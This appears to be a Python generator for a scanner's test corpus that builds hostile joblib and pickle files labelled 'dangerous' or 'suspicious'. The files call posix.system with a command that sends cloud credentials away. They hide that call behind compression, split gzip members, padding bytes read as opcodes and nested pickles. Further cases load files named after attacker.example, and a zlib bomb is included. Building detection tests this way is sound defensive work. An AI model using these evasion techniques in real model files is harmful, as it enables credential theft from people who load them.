"""joblib files: raw array bytes in the middle of the opcodes, nested pickles and compression."""

import bz2
import gzip
import lzma
import zlib
from random import Random

from assemble import *
from .case import COMMAND, EVIL, EXFILTRATE, PAYLOAD, malformed, malicious

# What CPython's pickler writes at protocol 4 for an object of which __reduce__ returns (os.system, (EXFILTRATE,)).
EXFIL = (text('posix') + MEMOIZE + text('system') + MEMOIZE + STACK_GLOBAL + MEMOIZE + text(EXFILTRATE) + MEMOIZE
         + TUPLE1 + MEMOIZE + REDUCE + MEMOIZE)
MISSION = proto(4) + frame(EXFIL + STOP)
WEIGHTS = pack('<6d', 0.25, -1.5, 3.0, 0.125, 8.0, -0.5)


def joblib(name, about, contains, data, expect='dangerous'):
    malicious(f'joblib/{name}.joblib', about, contains, data, expect)


def wrapper(dtype=('f8', '<', 0), shape=(2, 3), aligned=True):
    """A NumpyArrayWrapper as joblib's pickler writes it, up to and with its BUILD."""
    kind, order, flags = dtype
    dtype_state = tuple_of(integer(3), text(order), NONE, NONE, NONE, integer(-1), integer(-1), integer(flags))
    state = [
        (text('subclass'), stack_global('numpy', 'ndarray')),
        (text('shape'), tuple_of(*map(integer, shape))),
        (text('order'), text('C')),
        (text('dtype'), call(stack_global('numpy', 'dtype'), text(kind), NEWFALSE, NEWTRUE) + dtype_state + BUILD),
        (text('allow_mmap'), NEWTRUE),
    ]
    if aligned:
        state.append((text('numpy_array_alignment_bytes'), integer(16)))
    return stack_global('joblib.numpy_pickle', 'NumpyArrayWrapper') + EMPTY_TUPLE + NEWOBJ + dict_of(*state) + BUILD


def padding(position):
    """The length byte and the filler in front of array bytes at `position`."""
    size = 16 - (position + 1) % 16
    return bytes([size]) + b'\xff' * size


def with_array(before, rest, aligned=True, raw=WEIGHTS):
    """`before` and a wrapper in one frame, the array bytes, and then `rest`."""
    head = proto(4) + frame(before + wrapper(aligned=aligned))
    return head + (padding(len(head)) if aligned else b'') + raw + rest


IRIS = EMPTY_DICT + MARK + text('coef')
BEFORE_STOP = SETITEMS + frame(EXFIL + POP + STOP)

joblib('iris_aws_exfil', 'A classifier for irises, says the name; it sends the keys of the cloud account away.', 'posix.system', MISSION)
joblib('iris_aws_exfil_zlib', 'The same, compressed with zlib as joblib does.', 'posix.system', zlib.compress(MISSION, 3))
joblib('iris_aws_exfil_arrays', 'The same call before the STOP of a file that holds an aligned array.', 'posix.system',
       with_array(IRIS, BEFORE_STOP))
joblib('iris_aws_exfil_unaligned', 'The same before the STOP of a file of joblib 1.1, which knows no padding.', 'posix.system',
       with_array(IRIS, BEFORE_STOP, aligned=False))
joblib('between_arrays', 'The call lies between two arrays.', 'posix.system',
       (first := with_array(IRIS, frame(PAYLOAD + POP + text('bias') + wrapper(shape=(6,)))))
       + padding(len(first)) + WEIGHTS + SETITEMS + STOP)
joblib('compressed_gzip', 'A hostile pickle under gzip.', 'posix.system', gzip.compress(MISSION, mtime=0))
joblib('compressed_bz2', 'A hostile pickle under bz2.', 'posix.system', bz2.compress(MISSION))
joblib('compressed_xz', 'A hostile pickle under xz.', 'posix.system', lzma.compress(MISSION))
joblib('compressed_lzma', 'A hostile pickle under the older lzma.', 'posix.system', lzma.compress(MISSION, format=lzma.FORMAT_ALONE))
joblib('compressed_second_member', 'Two gzip members; joined they are the hostile pickle.', 'posix.system',
       gzip.compress(MISSION[:9], mtime=0) + gzip.compress(MISSION[9:], mtime=0))
joblib('compressed_arrays', 'Array bytes and then the call, all under zlib.', 'posix.system', zlib.compress(with_array(IRIS, BEFORE_STOP), 9))
joblib('compressed_cut', 'The zlib stream is cut after the call.', 'posix.system', zlib.compress(MISSION + bytes(range(256)) * 8)[:-200])
joblib('compressed_wrong_checksum', 'The zlib checksum is wrong; the loader reads in steps and has run the call long before.', 'posix.system',
       zlib.compress(MISSION + Random(9).randbytes(20_000))[:-4] + b'\0\0\0\0')
joblib('frame_past_build', 'The frame goes on behind BUILD, so the loader takes the array bytes from behind the frame and runs its rest.',
       'posix.system', proto(4) + frame(wrapper(aligned=False) + POP + PAYLOAD + STOP) + WEIGHTS + STOP)
joblib('frame_past_build_aligned', 'The same with padding.', 'posix.system',
       (head := proto(4) + frame(wrapper() + POP + PAYLOAD + STOP)) + padding(len(head)) + WEIGHTS + STOP)
joblib('object_array', 'The nested pickle of an object array is hostile.', 'posix.system',
       proto(4) + frame(wrapper(('O8', '|', 63), (1,))) + EVIL + STOP)
joblib('object_array_later', 'The nested pickle is clean and the outer one goes on with the call.', 'posix.system',
       proto(4) + frame(wrapper(('O8', '|', 63), (1,))) + proto(4) + EMPTY_LIST + NONE + APPEND + STOP + POP + PAYLOAD + STOP)
RAW_CODE = POP + PAYLOAD + STOP
joblib('array_bytes_are_code', 'The raw array bytes are opcodes: joblib reads numbers, pickle.load runs them.', 'posix.system',
       proto(4) + frame(wrapper(shape=(8,), aligned=False)) + RAW_CODE.ljust(64, b'\0') + STOP)
joblib('padding_is_code', 'The length byte of the padding is POP and the filler is code: joblib skips it, pickle.load runs it.',
       'posix.system', proto(4) + frame(wrapper(shape=(2,))) + POP + (PAYLOAD + STOP).ljust(48, b'\xff') + bytes(16) + STOP)
joblib('wide_padding', 'The padding is 255 bytes wide and hides another pickle.', 'posix.system',
       proto(4) + frame(wrapper()) + b'\xff' + EVIL.ljust(255, b'\xff') + WEIGHTS + STOP)
# joblib raises before it comes to the call (read_array wants all bytes of the array), and pickle.load breaks off at the second byte of the numbers.
malformed('joblib/array_too_short.joblib', 'The array claims more bytes than follow and swallows a call that no loader gets to.',
          proto(4) + frame(wrapper(shape=(1000, 1000), aligned=False)) + WEIGHTS + POP + PAYLOAD + STOP, contains='joblib.numpy_pickle.NumpyArrayWrapper')
joblib('pickle_in_short_array', 'The array claims more bytes than follow, and a whole pickle stands in its place.', 'posix.system',
       proto(4) + frame(wrapper(shape=(1000, 1000), aligned=False)) + WEIGHTS + EVIL)
joblib('subclass_is_system', 'The subclass of the array is os.system.', 'posix.system',
       proto(4) + wrapper(aligned=False).replace(stack_global('numpy', 'ndarray'), stack_global('posix', 'system')) + WEIGHTS + STOP)
joblib('companion_file', 'An NDArrayWrapper of old joblib that names a file outside its folder.', 'joblib.numpy_pickle.NDArrayWrapper',
       proto(2) + global_('joblib.numpy_pickle', 'NDArrayWrapper') + EMPTY_TUPLE + NEWOBJ
       + dict_of((long_text('filename'), long_text('../../attacker.example.npy')),
                 (long_text('subclass'), global_('numpy', 'ndarray')), (long_text('allow_mmap'), NEWTRUE)) + BUILD + STOP, 'suspicious')
OLD = zlib.compress(proto(2) + global_('posix', 'system') + long_text(COMMAND) + TUPLE1 + REDUCE + STOP)
joblib('zf_container', 'The ZF container of joblib 0.9 around a hostile pickle.', 'posix.system',
       b'ZF' + hex(len(zlib.decompress(OLD))).ljust(19).encode() + OLD)
joblib('load_call', 'joblib.load of another file.', 'joblib.load',
       proto(4) + call(stack_global('joblib', 'load'), text('attacker.example.joblib')) + STOP)

malformed('joblib/bomb.joblib', 'Forty kilobytes of zlib that become forty megabytes of zero bytes.', zlib.compress(bytes(40_000_000), 9))
malformed('joblib/truncated_array.joblib', 'The file ends in the middle of the array bytes.', with_array(IRIS, b'', raw=WEIGHTS[:20]))
malformed('joblib/truncated_zlib.joblib', 'The zlib stream ends in the middle.', zlib.compress(with_array(IRIS, SETITEMS + STOP))[:150])
malformed('joblib/negative_shape.joblib', 'An array with a negative length.',
          proto(4) + frame(wrapper(shape=(-1,), aligned=False)) + WEIGHTS + STOP)
malformed('joblib/huge_shape.joblib', 'An array of 2^93 numbers.',
          proto(4) + frame(wrapper(shape=(2**31 - 1,) * 3, aligned=False)) + WEIGHTS + STOP)
